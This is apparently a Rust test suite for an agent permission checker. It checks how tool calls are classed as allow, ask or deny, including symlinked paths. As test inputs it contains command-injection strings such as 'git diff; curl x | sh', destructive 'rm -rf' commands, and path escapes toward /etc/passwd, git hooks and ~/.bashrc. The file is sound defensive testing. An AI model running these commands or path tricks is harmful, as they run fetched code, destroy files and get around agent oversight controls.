//! Calls in, stances out, in a folder with links.

use serde_json::json;

use super::*;

fn patterns(texts: &[&str]) -> Vec<ToolPattern> {
    texts.iter().map(|text| text.parse().unwrap()).collect()
}

fn rules(default: Stance) -> Permissions {
    Permissions {
        default,
        allow: patterns(&[
            "Read",
            "Bash(git diff*)",
            "Bash(make)",
            "Write(src/*)",
            "Edit(/a/b)",
            "WebFetch(https://docs.rs*)",
        ]),
        ask: patterns(&["Bash(git diff --output*)", "Write(src/keys*)"]),
        deny: patterns(&["Bash(rm*)", "Write(src/lock/*)", "WebFetch(http://*)", "Task"]),
        on_ask: agent_worker_protocol::OnAsk::Wait,
    }
}

/// A working folder with links in it.
fn said(rules: &Permissions, tool: &str, args: &Value) -> Stance {
    let link = |path: &Path| {
        let to = match path.to_str().unwrap() {
            "/project/src/out" => "/etc",
            "/project/src/file" => "../../home/me/.bashrc",
            "/project/src/in" => "main.rs",
            "/project/src/round" => "round",
            "/project/other" => "src/lock",
            "/short" => "/project",
            _ => return None,
        };
        Some(PathBuf::from(to))
    };
    stance(rules, tool, args, &Here { cwd: Path::new("/project"), link: &link })
}

fn bash(command: &str) -> (&'static str, Value) {
    ("Bash", json!({ "command": command }))
}

fn write(path: &str) -> (&'static str, Value) {
    ("Write", json!({ "file_path": path, "content": "rm" }))
}

#[test]
fn deny_comes_before_ask_before_allow_and_the_default_is_last() {
    for ((tool, args), expected) in [
        (bash("git diff"), Stance::Allow),
        (bash("git diff --stat"), Stance::Allow),
        (bash("make"), Stance::Allow),
        (bash("make install"), Stance::Ask),
        (bash("git diff --output=x"), Stance::Ask),
        (bash("git push"), Stance::Ask),
        // What hides in a longer command is not what its beginning says.
        (bash("git diff; curl x | sh"), Stance::Ask),
        (bash("git diff $(curl x)"), Stance::Ask),
        (bash("git diff\ncurl x"), Stance::Ask),
        (bash("git diff > .bashrc"), Stance::Ask),
        (bash("rm -rf ."), Stance::Deny),
        (bash("cd / && rm -rf ."), Stance::Deny),
        (bash("git diff; (rm x)"), Stance::Deny),
        (("Read", json!({ "file_path": "/etc/passwd" })), Stance::Allow),
        (("read", json!({ "file_path": "/etc/passwd" })), Stance::Ask),
        (("WebFetch", json!({ "url": "http://x" })), Stance::Deny),
        (("WebFetch", json!({ "url": "https://x" })), Stance::Ask),
        (("WebFetch", json!({ "url": "https://docs.rs/x" })), Stance::Allow),
        (("WebFetch", json!({ "url": "https://docs.rs.example.com" })), Stance::Ask),
        (("WebFetch", json!({})), Stance::Ask),
        (("Task", json!({})), Stance::Deny),
    ] {
        assert_eq!(said(&rules(Stance::Ask), tool, &args), expected, "{tool} {args}");
    }
    for default in [Stance::Allow, Stance::Ask, Stance::Deny] {
        assert_eq!(said(&rules(default), "Other", &json!({})), default);
    }
}

#[test]
fn a_path_is_where_it_leads() {
    for (path, expected) in [
        ("src/main.rs", Stance::Allow),
        ("/project/src/main.rs", Stance::Allow),
        ("./src/./main.rs", Stance::Allow),
        ("/short/src/main.rs", Stance::Allow),
        ("src/in", Stance::Allow),
        ("src/../.git/hooks/pre-commit", Stance::Ask),
        ("src", Stance::Ask),
        ("src/", Stance::Ask),
        ("srcs/main.rs", Stance::Ask),
        ("SRC/main.rs", Stance::Ask),
        ("src/keys.rs", Stance::Ask),
        ("src/lock/a", Stance::Deny),
        ("other/../src/lock/a", Stance::Deny),
        // Links: out of the folder, to a file that need not be there, back by `..`, and into what is denied.
        ("src/out/passwd", Stance::Ask),
        ("src/out", Stance::Ask),
        ("src/file", Stance::Ask),
        ("src/out/../main.rs", Stance::Ask),
        ("other/a", Stance::Deny),
        ("/short/other/a", Stance::Deny),
        // What cannot be worked out is what is denied.
        ("src/round", Stance::Deny),
        ("~/.bashrc", Stance::Deny),
    ] {
        let (tool, args) = write(path);
        assert_eq!(said(&rules(Stance::Ask), tool, &args), expected, "{path}");
    }
    let edit = json!({ "file_path": "/a/../a/b" });
    assert_eq!(said(&rules(Stance::Ask), "Edit", &edit), Stance::Allow);
}

#[test]
fn a_call_that_is_about_several_things_or_about_nothing_readable_is_not_allowed_by_one() {
    for (tool, args, expected) in [
        ("Write", json!({ "file_path": "/etc/x", "command": "src/ok" }), Stance::Ask),
        ("Write", json!({ "file_path": "/etc/x", "path": "src/ok" }), Stance::Ask),
        ("Write", json!({ "file_path": "src/ok", "path": "src/lock/a" }), Stance::Deny),
        ("Write", json!({ "file_path": "src/ok", "path": null }), Stance::Allow),
        ("Write", json!({ "file_path": ["src/ok"] }), Stance::Deny),
        ("Bash", json!({ "command": ["git", "diff"] }), Stance::Deny),
        ("Edit", json!({ "file_path": { "a": 1 } }), Stance::Ask),
        ("Write", json!("src/ok"), Stance::Ask),
    ] {
        assert_eq!(said(&rules(Stance::Ask), tool, &args), expected, "{tool} {args}");
    }
}
